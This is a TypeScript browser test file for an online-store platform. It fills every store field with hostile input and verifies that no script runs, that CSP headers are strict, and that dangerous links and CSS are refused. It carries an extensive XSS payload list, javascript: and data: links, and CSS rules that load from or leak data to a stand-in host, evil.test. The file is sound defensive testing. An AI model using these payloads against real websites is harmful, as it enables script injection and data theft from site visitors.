import { randomUUID } from 'node:crypto'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { PreviewAnswer } from '../../api/contracts/preview.ts'
import { openBrowser, openPage } from '../../scripts/testing/browser.ts'
import { openFrame, type FrameAddress } from '../../scripts/testing/editor-frame.ts'
import { RefusedError, signInAs, storeUrl, until, visit, type AskApi } from '../../scripts/testing/visit.ts'

const RUN = 'window.__xss=1'

const MARKUP = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</textarea></noscript><script>${RUN}</script>`,
  `<ScRiPt/x>${RUN}</sCrIpT>`,
  `<<script>${RUN};//<</script>`,
  `<img src=x onerror=${RUN}>`,
  `"><img src=x onerror="${RUN}">`,
  `' onmouseover='${RUN}' x='`,
  `" autofocus tabindex=1 onfocus="${RUN}" x="`,
  `<svg onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=9 y=9>x</text></a>`,
  `<svg><style><img src=x onerror=${RUN}></style>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__xss=1"></iframe>`,
  `<a href="javascript:${RUN}">press</a>`,
  `<a href="jav&#x09;ascript:${RUN}">press</a>`,
  `<a href="&#14; javascript:${RUN}">press</a>`,
  `<a href="data:text/html,<script>opener.__xss=1</script>">press</a>`,
  `<form action="javascript:${RUN}"><input type=submit></form>`,
  `<button formaction="javascript:${RUN}">press</button>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<base href="//evil.test/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel="stylesheet" href="//evil.test/x.css">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<select><style></select><img src=x onerror=${RUN}></style>`,
  `<p style="background:url(javascript:${RUN})" onclick="${RUN}">press</p>`,
  `{{constructor.constructor('${RUN}')()}}\${${RUN}}`,
  `\u2028<script>${RUN}</script>\u202e`,
]

const LINKS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `\tjavascript:${RUN}`,
  `java\nscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:x`,
  `//evil.test/`,
  `/\\evil.test/`,
]

const STYLES = [
  `.a { background: url("javascript:${RUN}") }`,
  `.a { background: url(//evil.test/leak) } .b { width: expression(${RUN}) }`,
  `@import "//evil.test/x.css"; .a { color: red }`,
  `</style><script>${RUN}</script>`,
  `.a { behavior: url(#x); -moz-binding: url(//evil.test/x#y) }`,
  `@font-face { font-family: x; src: url(//evil.test/x.woff2) }`,
  `input[value^=a] { background: url(https://evil.test/a) }`,
]

const slug = `hostile-${randomUUID().slice(0, 8)}`
const path = (rest: string) => `/stores/${slug}${rest}`
const paths = new Set(['/', '/blog/', '/nowhere/', '/stores/'])

let browser: Browser
let ask: AskApi
beforeAll(async () => {
  ;({ browser } = await openBrowser())
  ask = await signInAs('merchant')
  const name = `"><img src=x onerror=${RUN}>`
  await ask('POST', '/stores', { name, slug, currency: 'EUR', country: 'ES', locales: ['en'] })
  await fillStore()
}, 240_000)
afterAll(() => browser.close())

/** What may be refused is refused as invalid; everything else is kept. */
async function dare<Answer>(method: string, rest: string, body: unknown): Promise<Answer | undefined> {
  try {
    return await ask<Answer>(method, path(rest), body)
  } catch (error) {
    if (error instanceof RefusedError && error.status === 422) return undefined
    throw error
  }
}

async function fillStore(): Promise<void> {
  const attributes = MARKUP.slice(0, 20).map((text, at) => ({
    ...{ key: `a${at}`, label: { en: text.slice(0, 100) }, type: 'text', unit: text.slice(0, 20) },
  }))
  await dare('PUT', '/attributes', { attributes })
  for (const [at, text] of MARKUP.entries()) await fillWith(text, at)
  const items = MARKUP.slice(0, 12).map((title) => ({ title: title.slice(0, 100), link: { kind: 'home' } }))
  await dare('PUT', '/menus/main', { items, publish: true })
  await dare('PUT', '/menus/footer', { items, publish: true })
  await dare('PATCH', '/settings', { description: MARKUP[1], publish: true })
  await fillHome()
  await until(
    () => visit(slug, '/'),
    ({ body }) => body.includes('s-last'),
  )
}

interface Made {
  id: number
  slug: string | Record<string, string>
}

const slugOf = ({ slug: made }: Made) => (typeof made === 'string' ? made : (made['en'] ?? ''))

async function fillWith(text: string, at: number): Promise<void> {
  const seo = { title: text, description: text }
  const others = at % 4 === 0
  const group = { description: text, slug: `g-${at}`, seo }
  const category = others ? await dare<Made>('POST', '/categories', { title: text, ...group }) : undefined
  const brand = others ? await dare<Made>('POST', '/brands', { name: text, ...group }) : undefined
  const product = await dare<Made>('POST', '/products', {
    ...{ title: text, slug: `p-${at}`, description: text, seo, status: 'active', tags: [text.slice(0, 60)] },
    price: { amount: 100, currency: 'EUR' },
    options: [{ name: text.slice(0, 60), values: [text.slice(0, 100), 'x'] }],
    attributes: Object.fromEntries(MARKUP.slice(0, 20).map((_, each) => [`a${each}`, text])),
    categoryIds: category ? [category.id] : [],
    brandId: brand?.id ?? null,
  })
  const page = await dare<Made>('POST', '/pages', {
    title: text,
    slug: `g-${at}`,
    body: text,
    seo,
    publish: true,
  })
  const written = { slug: `t-${at}`, body: text, excerpt: text, author: text.slice(0, 100), seo }
  const post =
    at % 2 ? await dare<Made>('POST', '/posts', { title: text, ...written, publish: true }) : undefined
  const banner = { title: text, text, placement: 'product', link: { kind: 'home' }, publish: true }
  if (others) await dare('POST', '/banners', banner)
  const branch = { name: text.slice(0, 80), address: [text.slice(0, 100)], visible: true }
  if (at < 3) await dare('POST', '/branches', branch)
  if (category) paths.add(`/categories/${slugOf(category)}/`)
  if (product) paths.add(`/products/${slugOf(product)}/`)
  if (page) paths.add(`/pages/${slugOf(page)}/`)
  if (post) paths.add(`/blog/${slugOf(post)}/`)
}

interface Theme {
  pack: string
  settings: object
}

async function fillHome(): Promise<void> {
  const sections = MARKUP.slice(0, 24).map((text, at) => [
    `s${at}`,
    {
      type: 'rich-text',
      settings: { heading: { text: { en: text.slice(0, 120) } }, body: { text: { en: text } } },
    },
  ])
  const last = { type: 'rich-text', settings: { heading: { text: { en: 'The end' } } } }
  const home = {
    sections: { ...Object.fromEntries(sections), last },
    order: [...sections.map(([id]) => id), 'last'],
  }
  const { pack, settings } = await ask<Theme>('GET', path('/theme'))
  const css = '.kept { color: rebeccapurple }'
  await dare('PUT', '/theme', { pack, settings, css, templates: { home }, groups: {} })
  await dare('POST', '/theme/publish', {})
}

/** What could run a script, as the browser has read the page. */
const findDangers = () =>
  [...document.querySelectorAll('*')].flatMap((element) =>
    [...element.attributes].flatMap(({ name, value }) => {
      const runs = name.startsWith('on') || /^[\s\p{C}]*(javascript|vbscript|data:text)/iu.test(value)
      return runs && name !== 'content' && name !== 'alt' ? [`${element.tagName} ${name}=${value}`] : []
    }),
  )

describe('FS5 hostile text in every field of a store', () => {
  test('runs nowhere', async () => {
    const { page, context, complaints } = await openPage(browser)
    page.on('dialog', (dialog) => {
      complaints.push(`dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
    for (const each of paths) {
      const answer = await page.goto(storeUrl(slug, each))
      expect([each, answer?.status()]).toEqual([each, each === '/nowhere/' ? 404 : 200])
      const policy = answer?.headers()['content-security-policy'] ?? ''
      expect(/script-src ([^;]*)/.exec(policy)?.[1]).toMatch(/^'self' 'sha256-[^']+'$/)
      const found = await page.evaluate(findDangers)
      const ran = await page.evaluate(() => '__xss' in window)
      expect({ each, found, ran }).toEqual({ each, found: [], ran: false })
    }
    const expected = (complaint: string) =>
      complaint.includes('/nowhere/') || complaint.includes('status of 404')
    expect(complaints.filter((complaint) => !expected(complaint))).toEqual([])
    expect(paths.size).toBeGreaterThan(90)
    await context.close()
  }, 180_000)

  test('runs nowhere in the theme editor’s frame, saved or not, nor as it came', async () => {
    const { page, context } = await openPage(browser)
    const address = await ask<FrameAddress>('POST', path('/theme/preview-frame'), {})
    const { frame, post } = await openFrame(page, address)
    expect(await frame.locator('body').evaluate(findDangers)).toEqual([])
    for (const text of [...MARKUP.slice(0, 24), 'The very end']) {
      const settings = { heading: { text: { en: text.slice(0, 120) } }, body: { text: { en: text } } }
      const home = { sections: { s0: { type: 'rich-text', settings } }, order: ['s0'] }
      const body = { path: '/', draft: { templates: { home } }, section: 's0' }
      await post({ type: 'section', id: 's0', html: `<p data-section="s0">${text}</p>` })
      const { html } = await ask<PreviewAnswer>('POST', path('/theme/preview'), body)
      await post({ type: 'section', id: 's0', html })
    }
    await frame.getByRole('heading', { name: 'The very end' }).waitFor()
    expect(await frame.locator('body').evaluate(findDangers)).toEqual([])
    expect(await frame.locator('body').evaluate(() => '__xss' in window)).toBe(false)
    await context.close()
  }, 120_000)

  test('is not led anywhere by links that run', async () => {
    for (const url of LINKS) {
      const items = [{ title: 'x', link: { kind: 'url', url } }]
      const refused = await dare('PUT', '/menus/main', { items, publish: true })
      expect([url, refused]).toEqual([url, undefined])
      const section = { type: 'hero', settings: { linkLabel: { text: { en: 'x' } }, link: url } }
      const home = { sections: { section }, order: ['section'] }
      const { pack, settings } = await ask<Theme>('GET', path('/theme'))
      const saved = await dare('PUT', '/theme', { pack, settings, templates: { home }, groups: {} })
      expect([url, saved]).toEqual([url, undefined])
    }
  })

  test('is no style either: only what neither fetches nor runs is kept', async () => {
    const { pack, settings } = await ask<Theme>('GET', path('/theme'))
    for (const css of STYLES) {
      const saved = await dare('PUT', '/theme', { pack, settings, css, templates: {}, groups: {} })
      expect([css, saved]).toEqual([css, undefined])
    }
    const { status, body } = await visit(slug, '/theme.css')
    expect(status).toBe(200)
    expect(body).toMatch(/main \.kept/)
  })
})
